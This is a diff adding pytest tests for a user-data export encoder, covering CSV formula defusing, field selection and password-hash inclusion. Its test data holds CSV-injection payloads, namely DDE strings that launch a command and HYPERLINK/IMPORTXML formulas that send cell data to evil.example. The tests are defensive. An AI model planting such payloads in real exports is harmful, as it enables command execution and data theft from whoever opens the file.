@@ -1,0 +1,139 @@
+"""The forms of an export: columns, formulas, JSON."""
+
+import csv
+import io
+import json
+from typing import Any
+
+import pytest
+
+from services.refusal import Refusal
+from services.transfer.forms import FIELDS, HASH, Encoder, Form, check
+from tests.support.accounts import Json
+
+USER: Json = {
+    "id": "user_1",
+    "externalId": None,
+    "email": "ada@example.com",
+    "emailVerified": True,
+    "status": "ACTIVE",
+    "profile": {"firstName": "Ada", "lastName": 'O"Neil, jr'},
+    "metadata": {"plan": "=cmd|' /C calc'!A0", "n": -5, "deep": {"a": [1]}},
+    "appMetadata": {},
+    "identities": [],
+    "loginCount": 0,
+    "version": 1,
+}
+FORMULAS = [
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-1+1",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
+    "-2+3+cmd|' /C calc'!D2",
+    '=DDE("cmd";"/C calc";"x")',
+    "'=1+1",
+]
+"""OWASP, CSV injection; payloadsallthethings; and one that looks defused already."""
+
+
+def encoded(
+    form: Form, *documents: Json, fields: list[str] | None = None, raw: bool = False, hash: str | None = None
+) -> str:
+    encoder = Encoder(form, fields or [], raw=raw)
+    pieces = [encoder.users([(json.dumps(document), hash)]) for document in documents]
+    return (encoder.head() + b"".join(pieces) + encoder.tail()).decode()
+
+
+def cells(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text, newline="")))
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_formulas_are_defused_wherever_they_are(formula: str) -> None:
+    user = USER | {"email": formula, "profile": {"firstName": formula}, "metadata": {"plan": formula, "all": [formula]}}
+    fields = ["email", "profile.firstName", "metadata.plan", "metadata", "metadata.all"]
+    _, found = cells(encoded("csv", user, fields=fields))
+    assert found[:3] == [f"'{formula}"] * 3
+    assert not [cell for cell in found if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))]
+    _, raw = cells(encoded("csv", user, fields=fields, raw=True))
+    assert raw[:3] == [formula] * 3
+    assert json.loads(raw[3])["plan"] == formula
+
+
+def test_csv_has_a_column_for_each_field_of_a_profile() -> None:
+    head, row = cells(encoded("csv", USER))
+    found = dict(zip(head, row, strict=True))
+    assert HASH not in head
+    assert [name for name in head if name.startswith("profile")] == [
+        f"profile.{name}" for name in ("firstName", "lastName", "displayName", "picture", "locale", "timezone")
+    ]
+    assert (found["profile.lastName"], found["emailVerified"], found["externalId"]) == ('O"Neil, jr', "true", "")
+    assert json.loads(found["metadata"]) == USER["metadata"]
+
+
+def test_numbers_are_no_formulas() -> None:
+    assert cells(encoded("csv", USER, fields=["metadata.n"]))[1] == ["-5"]
+
+
+def test_chosen_fields() -> None:
+    fields = ["email", "profile.firstName", "metadata.deep", "metadata.none", "appMetadata.x", "externalId"]
+    (line,) = encoded("jsonl", USER, fields=fields).splitlines()
+    assert json.loads(line) == {
+        "email": "ada@example.com",
+        "profile": {"firstName": "Ada"},
+        "metadata": {"deep": {"a": [1]}},
+        "appMetadata": {},
+        "externalId": None,
+    }
+
+
+@pytest.mark.parametrize("count", [0, 1, 3])
+def test_a_json_array_is_one_whatever_its_pieces(count: int) -> None:
+    users: list[Any] = json.loads(encoded("json", *[USER] * count))
+    assert users == [USER] * count
+    encoder = Encoder("json", [], raw=False)
+    text = encoder.head() + encoder.users([]) + encoder.users([(json.dumps(USER), None)] * count) + encoder.tail()
+    assert json.loads(text) == [USER] * count
+
+
+def test_a_hash_is_where_it_was_asked_for_and_there_is_one() -> None:
+    fields = ["email", HASH]
+    assert json.loads(encoded("jsonl", USER, fields=fields, hash="canary"))[HASH] == "canary"
+    assert json.loads(encoded("jsonl", USER, fields=fields))[HASH] is None
+    for form in ("jsonl", "json", "csv"):
+        assert "canary" not in encoded(form, USER, fields=["email"], hash="canary")
+        assert "canary" not in encoded(form, USER, hash="canary")
+
+
+@pytest.mark.parametrize(
+    "field",
+    [
+        "",
+        "canary",
+        "profile.",
+        "profile.canary",
+        "email.x",
+        "passwordHash.x",
+        "metadata.",
+        "*",
+        "id,email",
+        "profile.firstName.x",
+    ],
+)
+def test_fields_that_there_are_not(field: str) -> None:
+    with pytest.raises(Refusal) as refusal:
+        check([field], hashes=True)
+    assert (refusal.value.code, refusal.value.field) == ("validation_failed", "fields")
+    assert "canary" not in refusal.value.message
+
+
+def test_fields_that_there_are() -> None:
+    check([*FIELDS, "profile.firstName", "metadata.a.b", "appMetadata.=1"], hashes=True)
+    with pytest.raises(Refusal) as refusal:
+        check([HASH], hashes=False)
+    assert refusal.value.code == "forbidden"
